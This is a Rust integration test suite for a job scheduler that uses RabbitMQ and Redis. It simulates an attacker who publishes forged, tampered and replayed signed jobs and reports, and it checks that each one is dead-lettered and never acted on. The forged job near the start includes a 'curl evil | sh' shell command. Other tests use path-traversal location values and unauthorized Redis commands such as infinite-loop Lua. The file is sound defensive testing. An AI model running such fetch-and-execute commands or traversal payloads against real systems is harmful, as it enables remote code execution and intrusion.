//! Trust II, as an attacker with the broker's credentials would try it, on
//! real RabbitMQ and Redis: forged, tampered, replayed and mismatched jobs
//! and reports are dead-lettered without being acted on; a key rotation
//! keeps a run going.

#![allow(clippy::unwrap_used)]

mod support;

use std::time::Duration;

use protocol::Job;
use protocol::envelope;
use protocol::job::{Location, Priority, UnixMillis};
use protocol::report::{
    DiscoveredTarget, LocationFailed, LocationFailure, MAX_BUNDLED_REPORTS, Reports, StepResults,
    TargetsDiscovered,
};
use protocol::run::RunState;
use protocol::signing::{Keyring, SignerKind, SigningIdentity};
use protocol::status::StatusDetail;
use protocol::{Report, report::TargetResult};
use support::Stack;
use uuid::Uuid;

/// Ready messages in the deployment's dead-letter queue.
async fn dead_lettered(broker: &broker::Broker) -> u32 {
    support::ready_in(broker, &[broker.names().dead_letter_queue()]).await
}

async fn wait_for_dead_letters(broker: &broker::Broker, count: u32) {
    for _ in 0..100 {
        if dead_lettered(broker).await >= count {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!(
        "expected {count} dead-lettered messages, found {}",
        dead_lettered(broker).await
    );
}

/// A broker connection of the test's own that signs with `keys`.
async fn broker_signing(stack: &Stack, keys: Keyring) -> broker::Broker {
    broker::Broker::connect(&stack.amqp_url, stack.names.clone(), "attacker")
        .await
        .unwrap()
        .with_keyring(keys)
}

/// A completed one-step run on one location of 50 instances, and a worker
/// whose messages older than a minute are refused.
async fn completed_run() -> (Stack, Uuid) {
    let mut stack = Stack::start(support::single_location(50, false)).await;
    let mut config = stack.worker_config("worker", 4);
    config.keys = config.keys.with_max_age(Duration::from_secs(60));
    stack.spawn_worker_with(config);
    let campaign = stack.campaign("trusted", support::one_step("  max_errors: 0\n"));
    let run_id = stack.start_run(&campaign).await;
    let progress = stack
        .wait_until_final(run_id, Duration::from_secs(60))
        .await;
    assert_eq!(progress.state, RunState::Completed, "{progress:#?}");
    (stack, run_id)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forged_tampered_replayed_and_mismatched_jobs_are_dead_lettered_and_never_sent() {
    let (stack, run_id) = completed_run().await;
    let sent_before = stack.commands().len();
    let plan = stack.scheduler.plan(run_id).await.unwrap();
    let location = plan.locations[0].clone();
    let batch = scheduler::ledger::BatchEntry {
        location: scheduler::ledger::location_key(&location),
        batch_id: 7_000,
        step_index: 0,
        instance_ids: vec!["i-00000000000000001".into()],
        window: None,
    };
    let genuine = plan.execute_job(&batch).unwrap();
    let scheduler_key = stack.keys.scheduler.signer().unwrap().clone();
    let worker_key = stack.keys.worker.signer().unwrap().clone();
    let now = UnixMillis::now();
    let seal =
        |job: &Job, key: &SigningIdentity, at: UnixMillis| envelope::seal(job, key, at).unwrap();

    // The attacker's own job: any document, any parameters.
    let mut shell = genuine.clone();
    if let Job::Execute(execute) = &mut shell {
        execute.step.document = "AWS-RunShellScript".into();
        execute.step.parameters = [("commands".to_string(), vec!["curl evil | sh".into()])].into();
    }
    let mut foreign_run = genuine.clone();
    if let Job::Execute(execute) = &mut foreign_run {
        execute.run.run_id = Uuid::new_v4();
    }
    let mut foreign_location = genuine.clone();
    if let Job::Execute(execute) = &mut foreign_location {
        execute.location = Location {
            account_id: "999999999999".into(),
            region: location.region.clone(),
        };
    }
    let stranger = SigningIdentity::generate(SignerKind::Scheduler, "stranger").unwrap();
    let impostor = SigningIdentity::generate(SignerKind::Scheduler, &scheduler_key.id).unwrap();
    let mut tampered = seal(&genuine, &scheduler_key, now);
    let middle = tampered.len() / 2;
    tampered[middle] ^= 0x01;
    let mut unsigned = seal(&genuine, &scheduler_key, now);
    unsigned.truncate(unsigned.len() - 64);

    let forgeries: Vec<(&str, Vec<u8>)> = vec![
        ("no signature", unsigned),
        ("a key nobody trusts", seal(&genuine, &stranger, now)),
        (
            "a trusted key id, another key",
            seal(&genuine, &impostor, now),
        ),
        ("a tampered byte", tampered),
        (
            "a replay older than the window",
            seal(&genuine, &scheduler_key, UnixMillis(now.0 - 120_000)),
        ),
        (
            "a document the run did not record",
            seal(&shell, &scheduler_key, now),
        ),
        (
            "a run that does not exist",
            seal(&foreign_run, &scheduler_key, now),
        ),
        (
            "a location not in the run",
            seal(&foreign_location, &scheduler_key, now),
        ),
        (
            "an Execute job signed by a worker key",
            seal(&genuine, &worker_key, now),
        ),
    ];
    let attacker = broker_signing(&stack, Keyring::default()).await;
    for (what, bytes) in &forgeries {
        attacker
            .publish_sealed_job(Priority::Bulk, bytes)
            .await
            .unwrap_or_else(|error| panic!("publishing {what}: {error}"));
    }
    wait_for_dead_letters(&attacker, forgeries.len() as u32).await;
    // Another second for anything that slipped through to reach the simulator.
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(
        stack.commands().len(),
        sent_before,
        "a forged job was sent: {:?}",
        stack.commands().last()
    );
    assert_eq!(dead_lettered(&attacker).await, forgeries.len() as u32);
    attacker.close().await;
    stack.teardown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forged_reports_change_no_counter_and_write_no_file() {
    let (stack, run_id) = completed_run().await;
    let before = stack.scheduler.progress(run_id).await.unwrap();
    let files_before = files_under(stack.results.path());
    let plan = stack.scheduler.plan(run_id).await.unwrap();
    let location = plan.locations[0].clone();
    let admitted_target = stack.records(run_id)[0].instance_id.clone();
    let result = |instance_id: &str| TargetResult {
        instance_id: instance_id.into(),
        status: StatusDetail::Failed,
        command_id: Some("forged".into()),
        requested_at: None,
        started_at: None,
        finished_at: None,
        response_code: Some(1),
        output_excerpt: "forged".into(),
        compliance: None,
        compliance_missing: None,
    };
    let results = |run_id: Uuid, location: &Location, batch_id: u32, instance_id: &str| {
        Report::StepResults(StepResults {
            run_id,
            location: location.clone(),
            batch_id,
            step_index: 0,
            results: vec![result(instance_id)],
        })
    };
    let escaping = Location {
        account_id: "x/../..".into(),
        region: "../../../tmp".into(),
    };
    let foreign = Location {
        account_id: "999999999999".into(),
        region: location.region.clone(),
    };
    let worker_key = stack.keys.worker.signer().unwrap().clone();
    let scheduler_key = stack.keys.scheduler.signer().unwrap().clone();
    let now = UnixMillis::now();
    let forgeries: Vec<(&str, Vec<u8>)> = vec![
        (
            "a run that does not exist",
            envelope::seal(
                &results(Uuid::new_v4(), &location, 0, &admitted_target),
                &worker_key,
                now,
            )
            .unwrap(),
        ),
        (
            "a location outside the output root",
            envelope::seal(
                &results(run_id, &escaping, 0, &admitted_target),
                &worker_key,
                now,
            )
            .unwrap(),
        ),
        (
            "a location not in the run",
            envelope::seal(
                &results(run_id, &foreign, 0, &admitted_target),
                &worker_key,
                now,
            )
            .unwrap(),
        ),
        (
            "a batch the run never admitted",
            envelope::seal(
                &results(run_id, &location, 999_000, &admitted_target),
                &worker_key,
                now,
            )
            .unwrap(),
        ),
        (
            "a location failure of a foreign location",
            envelope::seal(
                &Report::LocationFailed(LocationFailed {
                    run_id,
                    location: foreign.clone(),
                    reason: LocationFailure::AccessDenied,
                    detail: "forged".into(),
                }),
                &worker_key,
                now,
            )
            .unwrap(),
        ),
        (
            "a report signed by a scheduler key",
            envelope::seal(
                &results(run_id, &location, 0, &admitted_target),
                &scheduler_key,
                now,
            )
            .unwrap(),
        ),
        (
            "a bundle holding a forged report",
            envelope::seal(
                &Reports(vec![results(run_id, &foreign, 0, &admitted_target)]),
                &worker_key,
                now,
            )
            .unwrap(),
        ),
        (
            "an empty bundle",
            envelope::seal(&Reports(Vec::new()), &worker_key, now).unwrap(),
        ),
        (
            "a bundle of too many reports",
            envelope::seal(
                &Reports(vec![
                    results(run_id, &location, 0, &admitted_target);
                    MAX_BUNDLED_REPORTS + 1
                ]),
                &worker_key,
                now,
            )
            .unwrap(),
        ),
    ];
    let attacker = broker_signing(&stack, Keyring::default()).await;
    for (what, bytes) in &forgeries {
        attacker
            .publish_sealed_report(bytes)
            .await
            .unwrap_or_else(|error| panic!("publishing {what}: {error}"));
    }
    wait_for_dead_letters(&attacker, forgeries.len() as u32).await;
    let after = stack.scheduler.progress(run_id).await.unwrap();
    assert_eq!(after.results, before.results, "a forged report was counted");
    assert_eq!(
        (after.failures, after.locations_failed, after.locations_done),
        (
            before.failures,
            before.locations_failed,
            before.locations_done
        )
    );
    assert_eq!(
        files_under(stack.results.path()),
        files_before,
        "a forged report wrote a file"
    );
    let outside = stack.results.path().parent().unwrap().join("tmp");
    assert!(!outside.join("region=..").exists());
    attacker.close().await;
    stack.teardown().await;
}

/// A bundle is handled report by report: the genuine ones beside a forged
/// one are applied (nothing a worker reported is lost), and the bundle is
/// dead-lettered for the forged one.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bundle_with_a_forged_report_applies_the_genuine_ones_and_is_dead_lettered() {
    let stack = Stack::start(support::single_location(10, false)).await;
    let campaign = stack.campaign("bundled", support::one_step("  max_errors: 0\n"));
    let run_id = stack.start_run(&campaign).await;
    let location = stack.scheduler.plan(run_id).await.unwrap().locations[0].clone();
    let discovered = support::discovered(run_id, &location, 3).remove(0);
    let forged = Report::LocationFailed(LocationFailed {
        run_id,
        location: Location {
            account_id: "999999999999".into(),
            region: location.region.clone(),
        },
        reason: LocationFailure::AccessDenied,
        detail: "forged".into(),
    });
    let worker_key = stack.keys.worker.signer().unwrap().clone();
    let bundle = envelope::seal(
        &Reports(vec![forged, discovered]),
        &worker_key,
        UnixMillis::now(),
    )
    .unwrap();
    let attacker = broker_signing(&stack, Keyring::default()).await;
    attacker.publish_sealed_report(&bundle).await.unwrap();
    wait_for_dead_letters(&attacker, 1).await;
    let progress = stack.scheduler.progress(run_id).await.unwrap();
    assert_eq!(
        (progress.total_targets, progress.locations_failed),
        (3, 0),
        "the genuine report counted, the forged one did not: {progress:#?}"
    );
    attacker.close().await;
    stack.teardown().await;
}

/// A report that can never be applied — its run's record no longer parses
/// — is refused alone: the reports of other runs in its bundle, applied
/// with it, are counted (one run's fault fails no other run's reports).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bundle_with_a_report_of_a_corrupt_run_applies_the_other_runs_reports() {
    use ::redis::AsyncCommands as _;
    let mut stack = Stack::start(support::single_location(10, false)).await;
    // Stopped while the runs start and one is spoilt, so it has read
    // neither run's record yet.
    stack.kill_scheduler();
    let healthy = stack
        .start_run(&stack.campaign("healthy", support::one_step("  max_errors: 0\n")))
        .await;
    let corrupt = stack
        .start_run(&stack.campaign("spoilt", support::one_step("  max_errors: 0\n")))
        .await;
    let location = stack.scheduler.plan(healthy).await.unwrap().locations[0].clone();
    let mut connection = stack.store.connection();
    let () = connection
        .hset(
            stack.names.run_key(corrupt),
            protocol::run_fields::RunField::Spec.as_str(),
            "{",
        )
        .await
        .unwrap();
    stack.start_scheduler();
    let mut reports = support::discovered(healthy, &location, 3);
    reports.extend(support::discovered(corrupt, &location, 3));
    let worker_key = stack.keys.worker.signer().unwrap().clone();
    let bundle = envelope::seal(
        &protocol::report::Reports(reports),
        &worker_key,
        UnixMillis::now(),
    )
    .unwrap();
    let sender = broker_signing(&stack, Keyring::default()).await;
    sender.publish_sealed_report(&bundle).await.unwrap();
    wait_for_dead_letters(&sender, 1).await;
    let progress = stack.scheduler.progress(healthy).await.unwrap();
    assert_eq!(
        (progress.total_targets, progress.locations_discovered),
        (3, 1),
        "the healthy run's page counted beside the spoilt run's refused one: {progress:#?}"
    );
    sender.close().await;
    stack.teardown().await;
}

/// A bundle is applied in its order: a location's page, then its failure,
/// count the page's targets (a failed location's later pages are ignored,
/// so applying the failure first would lose them).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bundle_is_applied_in_its_order() {
    let stack = Stack::start(support::single_location(10, false)).await;
    let campaign = stack.campaign("in-order", support::one_step("  max_errors: 0\n"));
    let run_id = stack.start_run(&campaign).await;
    let location = stack.scheduler.plan(run_id).await.unwrap().locations[0].clone();
    let mut reports = support::discovered(run_id, &location, 3);
    reports.push(Report::LocationFailed(LocationFailed {
        run_id,
        location: location.clone(),
        reason: LocationFailure::AccessDenied,
        detail: "AccessDenied: the role was deleted".into(),
    }));
    let worker_key = stack.keys.worker.signer().unwrap().clone();
    let bundle = envelope::seal(
        &protocol::report::Reports(reports),
        &worker_key,
        UnixMillis::now(),
    )
    .unwrap();
    let sender = broker_signing(&stack, Keyring::default()).await;
    sender.publish_sealed_report(&bundle).await.unwrap();
    let mut progress = stack.scheduler.progress(run_id).await.unwrap();
    for _ in 0..100 {
        if progress.locations_failed == 1 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        progress = stack.scheduler.progress(run_id).await.unwrap();
    }
    assert_eq!(
        (progress.locations_failed, progress.total_targets),
        (1, 3),
        "the page before the failure counted: {progress:#?}"
    );
    assert_eq!(dead_lettered(&sender).await, 0, "nothing refused");
    sender.close().await;
    stack.teardown().await;
}

/// Issue 33's refused step halts a run; only where a send was made: a
/// worker key's forged "the step was refused" for a location of the run
/// whose execution never began is refused and halts nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forged_refused_step_halts_no_run() {
    let stack = Stack::start(support::single_location(10, false)).await;
    let campaign = stack.campaign("not-halted", support::one_step("  max_errors: 0\n"));
    let run_id = stack.start_run(&campaign).await;
    let location = stack.scheduler.plan(run_id).await.unwrap().locations[0].clone();
    let worker_key = stack.keys.worker.signer().unwrap().clone();
    let attacker = broker_signing(&stack, Keyring::default()).await;
    for reason in [LocationFailure::StepRefused, LocationFailure::SendRefused] {
        let forged = envelope::seal(
            &Report::LocationFailed(LocationFailed {
                run_id,
                location: location.clone(),
                reason,
                detail: "forged".into(),
            }),
            &worker_key,
            UnixMillis::now(),
        )
        .unwrap();
        attacker.publish_sealed_report(&forged).await.unwrap();
    }
    wait_for_dead_letters(&attacker, 2).await;
    let progress = stack.scheduler.progress(run_id).await.unwrap();
    assert_eq!(
        (progress.state, progress.locations_failed),
        (protocol::run::RunState::Discovering, 0),
        "{progress:#?}"
    );
    attacker.close().await;
    stack.teardown().await;
}

fn files_under(root: &std::path::Path) -> Vec<String> {
    let mut files = Vec::new();
    let mut dirs = vec![root.to_path_buf()];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                dirs.push(path);
            } else {
                files.push(path.display().to_string());
            }
        }
    }
    files.sort();
    files
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_keeps_going_across_a_scheduler_key_rotation() {
    let mut stack = Stack::start(support::single_location(400, false)).await;
    let old = stack.keys.scheduler.signer().unwrap().clone();
    let worker = stack.keys.worker.signer().unwrap().clone();
    let new = SigningIdentity::generate(SignerKind::Scheduler, "scheduler-rotated").unwrap();
    // Step 1 of a rotation: every worker trusts both scheduler keys.
    let ring = |lines: &[String]| Keyring::parse_trusted(&lines.join("\n")).unwrap();
    let mut config = stack.worker_config("worker", 8);
    config.keys = ring(&[old.public_line(), new.public_line()]).signing_as(worker.clone());
    stack.spawn_worker_with(config);
    let campaign = stack.campaign(
        "rotated",
        format!(
            "{}api_rate_limits:\n  send_command: 2\n",
            support::one_step("  max_concurrency: 100\n  max_errors: 0\n")
        ),
    );
    let run_id = stack.start_run(&campaign).await;
    stack.wait_for_commands(2).await;
    // Step 2: the scheduler restarts signing with the new key, mid-run.
    stack.kill_scheduler();
    stack.scheduler_config_mut().keys = ring(&[worker.public_line()]).signing_as(new);
    stack.start_scheduler();
    let progress = stack
        .wait_until_final(run_id, Duration::from_secs(90))
        .await;
    assert_eq!(progress.state, RunState::Completed, "{progress:#?}");
    let records = stack.records(run_id);
    assert_eq!(records.len(), 400, "one result per target");
    let executions = stack.executions();
    assert!(
        executions.values().all(|&count| count == 1),
        "an instance ran twice across the rotation"
    );
    let observer = broker_signing(&stack, Keyring::default()).await;
    assert_eq!(
        dead_lettered(&observer).await,
        0,
        "a message was refused across the rotation"
    );
    observer.close().await;
    stack.teardown().await;
}

/// Starts a 120-target run through a scheduler of the stack's (re)configured
/// settings and waits until it completed with one result per target.
async fn least_privilege_run(stack: &Stack) -> (scheduler::Scheduler, Uuid) {
    let scheduler = scheduler::Scheduler::connect(stack.scheduler_config())
        .await
        .unwrap();
    let campaign = stack.campaign(
        "least-privilege",
        support::one_step("  max_concurrency: 50\n"),
    );
    let run_id = scheduler
        .start_run_unchecked(&campaign, scheduler::StartOptions::default())
        .await
        .unwrap();
    let progress = stack
        .wait_until_final(run_id, Duration::from_secs(60))
        .await;
    assert_eq!(progress.state, RunState::Completed, "{progress:#?}");
    assert_eq!(stack.records(run_id).len(), 120);
    (scheduler, run_id)
}

/// A RabbitMQ user of the test's own with a service's permissions on `/`
/// (`broker::topology::permissions`), deleted when dropped.
struct BrokerUser {
    name: String,
    url: String,
}

fn rabbitmqctl(args: &[&str]) {
    let output = std::process::Command::new("rabbitmqctl")
        .args(args)
        .output()
        .unwrap_or_else(|error| panic!("this test needs rabbitmqctl on the PATH: {error}"));
    assert!(
        output.status.success(),
        "rabbitmqctl {args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
}

impl BrokerUser {
    fn create(names: &protocol::names::Names, kind: broker::topology::ServiceKind) -> Self {
        let name = format!("{}-{kind:?}", names.prefix()).to_lowercase();
        let password = Uuid::new_v4().simple().to_string();
        rabbitmqctl(&["add_user", &name, &password]);
        let wanted = broker::topology::permissions(names, kind);
        rabbitmqctl(&[
            "set_permissions",
            "-p",
            "/",
            &name,
            &wanted.configure,
            &wanted.write,
            &wanted.read,
        ]);
        let url = format!("amqp://{name}:{password}@127.0.0.1:5672/%2f");
        Self { name, url }
    }
}

impl Drop for BrokerUser {
    fn drop(&mut self) {
        let _ = std::process::Command::new("rabbitmqctl")
            .args(["delete_user", &self.name])
            .output();
    }
}

/// The deployed per-service broker permissions are enough for a whole run
/// (discovery, execution, polls through delay queues, reports), and keep a
/// worker from consuming reports and a scheduler from consuming jobs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_completes_with_one_broker_user_per_service_and_each_is_kept_to_its_part() {
    use broker::topology::ServiceKind;
    let mut stack = Stack::start(support::single_location(120, false)).await;
    let scheduler_user = BrokerUser::create(&stack.names, ServiceKind::Scheduler);
    let worker_user = BrokerUser::create(&stack.names, ServiceKind::Worker);
    stack.kill_scheduler();
    stack.scheduler_config_mut().amqp_url = scheduler_user.url.clone();
    stack.start_scheduler();
    let mut config = stack.worker_config("worker", 8);
    config.amqp_url = worker_user.url.clone();
    stack.spawn_worker_with(config);
    least_privilege_run(&stack).await;

    let names = stack.names.clone();
    let as_worker = broker::Broker::connect(&worker_user.url, names.clone(), "t")
        .await
        .unwrap();
    assert!(
        as_worker
            .consume(&names.reports_queue(), 1, "steal")
            .await
            .is_err(),
        "a worker consumed reports"
    );
    let as_scheduler = broker::Broker::connect(&scheduler_user.url, names.clone(), "t")
        .await
        .unwrap();
    assert!(
        as_scheduler
            .consume(&names.bulk_queue(), 1, "steal")
            .await
            .is_err(),
        "a scheduler consumed jobs"
    );
    // Trust III, finding 9: neither may delete, redeclare or rebind a queue
    // (no `configure`), and only the scheduler reads dead letters.
    assert!(
        as_worker.delete_topology().await.is_err(),
        "a worker deleted the deployment's queues"
    );
    assert!(
        as_scheduler.delete_topology().await.is_err(),
        "a scheduler deleted the deployment's queues"
    );
    assert!(
        as_worker
            .consume(&names.dead_letter_queue(), 1, "steal")
            .await
            .is_err(),
        "a worker read the dead letters"
    );
    assert!(
        as_scheduler
            .consume(&names.dead_letter_queue(), 1, "operator")
            .await
            .is_ok(),
        "the scheduler reads the dead letters"
    );
    let admin = broker::Broker::connect(&stack.amqp_url, names.clone(), "check")
        .await
        .expect("the queues are all still there");
    admin.close().await;
    as_worker.close().await;
    as_scheduler.close().await;
    stack.teardown().await;
}

/// The deployed per-service Redis users (`store::acl`) are enough for a
/// whole run, and a worker's user can neither release the kill switch nor
/// change a run's state.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_completes_with_one_redis_user_per_service_and_a_worker_cannot_release_the_kill_switch()
 {
    use redis::AsyncCommands as _;
    use store::Store as _;
    let dir = tempfile::tempdir().unwrap();
    let acl = dir.path().join("users.acl");
    let prefix = format!("flotilla-test-{}", Uuid::new_v4());
    std::fs::write(
        &acl,
        store::acl::users(&prefix, ">scheduler-pw", ">worker-pw", ">admin-pw"),
    )
    .unwrap();
    let redis = support::PrivateRedis::start_with_args(&["--aclfile", acl.to_str().unwrap()]).await;
    let url_of = |user: &str, password: &str| {
        redis
            .url
            .replace("redis://", &format!("redis://{user}:{password}@"))
    };
    // Nobody gets in without a user.
    let names = protocol::names::Names::new(prefix.clone());
    let anonymous = store::RedisStore::connect(&redis.url, names.clone()).await;
    assert!(
        anonymous.is_err() || anonymous.unwrap().kill_reason("x").await.is_err(),
        "the default user is off"
    );

    let mut stack = Stack::start_named(
        support::single_location(120, false),
        &url_of("flotilla-admin", "admin-pw"),
        names.clone(),
    )
    .await;
    stack.kill_scheduler();
    stack.scheduler_config_mut().redis_url = url_of("flotilla-scheduler", "scheduler-pw");
    stack.start_scheduler();
    let worker_url = url_of("flotilla-worker", "worker-pw");
    let worker_store = store::RedisStore::connect(&worker_url, names.clone())
        .await
        .unwrap();
    let config = stack.worker_config("worker", 8);
    stack.spawn_worker_on(config, worker_store.clone());
    let (scheduler, run_id) = least_privilege_run(&stack).await;

    scheduler
        .engage_kill_switch(&store::KillScope::Global, "drill", false)
        .await
        .unwrap();
    let released = worker_store
        .release_kill_switch(&store::KillScope::Global)
        .await;
    assert!(released.is_err(), "a worker released the kill switch");
    assert!(worker_store.kill_reason("any").await.unwrap().is_some());
    let resumed = worker_store
        .set_run_state(run_id, RunState::Running, "forged")
        .await;
    assert!(resumed.is_err(), "a worker changed a run's state");

    // Trust III, finding 3: what a worker credential can do to the send
    // record and to Redis itself.
    let mut worker = worker_store.connection();
    let sends = names.run_sends_key(run_id);
    let recorded: std::collections::HashMap<String, String> =
        stack.store.connection().hgetall(&sends).await.unwrap();
    assert!(
        recorded.keys().any(|field| field.ends_with(":command")),
        "the run's send record holds its commands: {recorded:?}"
    );
    let field = recorded.keys().next().unwrap().clone();
    let refused = |what: &str, result: redis::RedisResult<redis::Value>| {
        let error = result.expect_err(&format!("a worker may not {what}"));
        assert!(
            error.to_string().to_lowercase().contains("noperm"),
            "{what}: {error}"
        );
    };
    refused(
        "delete the send record",
        redis::cmd("DEL").arg(&sends).query_async(&mut worker).await,
    );
    refused(
        "delete a field of it",
        redis::cmd("HDEL")
            .arg(&sends)
            .arg(&field)
            .query_async(&mut worker)
            .await,
    );
    refused(
        "overwrite a field of it",
        redis::cmd("HSET")
            .arg(&sends)
            .arg(&field)
            .arg("x")
            .query_async(&mut worker)
            .await,
    );
    refused(
        "make it expire",
        redis::cmd("PEXPIRE")
            .arg(&sends)
            .arg(1)
            .query_async(&mut worker)
            .await,
    );
    refused(
        "run Lua of its own",
        redis::cmd("EVAL")
            .arg("while true do end")
            .arg(0)
            .query_async(&mut worker)
            .await,
    );
    refused(
        "load a script",
        redis::cmd("SCRIPT")
            .arg("LOAD")
            .arg("return 1")
            .query_async(&mut worker)
            .await,
    );
    refused(
        "load a function",
        redis::cmd("FUNCTION")
            .arg("LOAD")
            .arg("REPLACE")
            .arg("#!lua name=mine\nredis.register_function('mine', function() while true do end end)")
            .query_async(&mut worker)
            .await,
    );
    let added: bool = worker.hset_nx(&sends, &field, "0").await.unwrap();
    assert!(!added, "HSETNX never overwrites");
    let after: std::collections::HashMap<String, String> =
        stack.store.connection().hgetall(&sends).await.unwrap();
    assert_eq!(after, recorded, "the send record is unchanged");
    stack.teardown().await;
}

/// Trust III, finding 3: a stolen worker credential erases a sent job's send
/// claim and republishes the captured, genuinely signed Execute while the run
/// is live. The run's append-only send record still names the command: the
/// replay polls it, and no instance runs the document twice.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_replayed_execute_never_runs_twice_even_with_its_send_claim_erased() {
    use redis::AsyncCommands as _;
    let mut stack = Stack::start(support::slow_single_location(50)).await;
    stack.spawn_worker("worker", 4);
    let campaign = stack.campaign(
        "replayed",
        support::one_step("  max_concurrency: 10\n  max_errors: 0\n"),
    );
    let run_id = stack.start_run(&campaign).await;
    stack.wait_for_commands(1).await;
    let entries = stack.scheduler.ledger().admitted(run_id).await.unwrap();
    assert!(!entries.is_empty());
    let plan = stack.scheduler.plan(run_id).await.unwrap();
    let replayer = broker_signing(&stack, stack.keys.scheduler.clone()).await;
    let mut redis = stack.store.connection();
    for entry in &entries {
        let job = plan.execute_job(entry).unwrap();
        let Job::Execute(execute) = &job else {
            unreachable!()
        };
        let _: i64 = redis
            .del(stack.names.job_command_key(run_id, execute.job_id))
            .await
            .unwrap();
        replayer.publish_job(&job).await.unwrap();
    }
    let progress = stack
        .wait_until_final(run_id, Duration::from_secs(90))
        .await;
    stack.assert_each_target_ran_once(run_id, &progress);
    stack.teardown().await;
}

/// A one-location stack whose campaign `name` selects `Environment=staging`
/// hosts, its kill switch engaged so nothing is sent yet.
async fn staging_campaign_held(name: &str) -> (Stack, protocol::Campaign) {
    let stack = Stack::start(support::single_location(12, false)).await;
    let campaign = stack.campaign_selecting(
        name,
        &stack.account_ids(),
        "tags:\n    Environment: staging\n  online_only: false",
        support::one_step("  max_errors: 100%\n"),
    );
    stack
        .scheduler
        .engage_kill_switch(&store::KillScope::Campaign(name.into()), "held", false)
        .await
        .unwrap();
    (stack, campaign)
}

async fn release(stack: &Stack, campaign: &str) {
    store::Store::release_kill_switch(&stack.store, &store::KillScope::Campaign(campaign.into()))
        .await
        .unwrap();
}

/// Trust III, finding 2: a targets-discovered report forged with a worker's
/// key lists production hosts for a staging campaign. The scheduler cannot
/// tell tags apart and admits them, but the worker that sends re-checks the
/// batch against the campaign's selection right before SendCommand: no
/// production host runs anything, and each is reported Not Started with why.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forged_discovery_cannot_add_hosts_outside_the_campaign() {
    let (mut stack, campaign) = staging_campaign_held("forged-targets").await;
    let run_id = stack.start_run(&campaign).await;
    let plan = stack.scheduler.plan(run_id).await.unwrap();
    let production = stack.instances_tagged("Environment", "prod");
    let forged = Report::TargetsDiscovered(TargetsDiscovered {
        run_id,
        location: plan.locations[0].clone(),
        page: 0,
        targets: production
            .iter()
            .map(|id| DiscoveredTarget {
                instance_id: id.clone(),
                platform: None,
                online: true,
                window: None,
            })
            .collect(),
        last_page: true,
    });
    // A page larger than any listing answers is refused whole.
    let oversized = Report::TargetsDiscovered(TargetsDiscovered {
        run_id,
        location: plan.locations[0].clone(),
        page: 1,
        targets: (0..=protocol::job::MAX_BATCH_SIZE)
            .map(|n| DiscoveredTarget {
                instance_id: format!("i-{n:017x}"),
                platform: None,
                online: true,
                window: None,
            })
            .collect(),
        last_page: false,
    });
    let attacker = broker_signing(&stack, stack.keys.worker.clone()).await;
    attacker.publish_report(&oversized).await.unwrap();
    attacker.publish_report(&forged).await.unwrap();
    for _ in 0..100 {
        if stack
            .scheduler
            .progress(run_id)
            .await
            .unwrap()
            .total_targets
            > 0
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // Only now a worker: the forged page was first.
    stack.spawn_worker("worker", 4);
    release(&stack, "forged-targets").await;
    stack
        .wait_until_final(run_id, Duration::from_secs(60))
        .await;
    for host in &production {
        assert_eq!(stack.runs_on(host), 0, "{host} is not a staging host");
    }
    let progress = stack.scheduler.progress(run_id).await.unwrap();
    assert_eq!(
        progress.total_targets,
        production.len() as u64,
        "the oversized page was refused: {progress:#?}"
    );
    let records = stack.records(run_id);
    let dropped: Vec<_> = records
        .iter()
        .filter(|record| production.contains(&record.instance_id))
        .collect();
    assert!(!dropped.is_empty(), "{records:#?}");
    for record in dropped {
        assert_eq!(record.status_detail, "Not Started", "{record:#?}");
        assert!(
            record
                .output
                .contains("no longer matched the campaign's targets"),
            "{record:#?}"
        );
    }
    stack.teardown().await;
}

/// Trust III: a host whose tag was removed after discovery is not sent the
/// step (as SSM's own tag targeting would not), and is counted as dropped;
/// the rest of its batch runs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_untagged_after_discovery_is_not_touched() {
    let (mut stack, campaign) = staging_campaign_held("untagged").await;
    stack.spawn_worker("worker", 4);
    let run_id = stack.start_run(&campaign).await;
    let staging = stack.instances_tagged("Environment", "staging");
    assert!(staging.len() >= 2, "{staging:?}");
    for _ in 0..100 {
        let progress = stack.scheduler.progress(run_id).await.unwrap();
        if progress.locations_discovered == progress.locations {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let untagged = staging[0].clone();
    let key = stack.sim.state.fleet.parse_instance_id(&untagged).unwrap();
    stack
        .sim
        .state
        .lock()
        .removed_tags
        .insert(key, vec!["Environment".into()]);
    release(&stack, "untagged").await;
    let progress = stack
        .wait_until_final(run_id, Duration::from_secs(60))
        .await;
    assert_eq!(
        progress.total_targets,
        staging.len() as u64,
        "{progress:#?}"
    );
    assert_eq!(stack.runs_on(&untagged), 0);
    for host in &staging[1..] {
        assert_eq!(stack.runs_on(host), 1, "{host}");
    }
    // One result per host: the rest of the untagged host's batch is
    // counted too, not taken for a repeat of its Not Started report.
    let records = stack.records(run_id);
    assert_eq!(records.len(), staging.len(), "{records:#?}");
    for record in &records {
        let expected = if record.instance_id == untagged {
            "Not Started"
        } else {
            "Success"
        };
        assert_eq!(record.status_detail, expected, "{record:#?}");
    }
    assert_eq!(progress.targets_in_flight, 0, "{progress:#?}");
    stack.teardown().await;
}
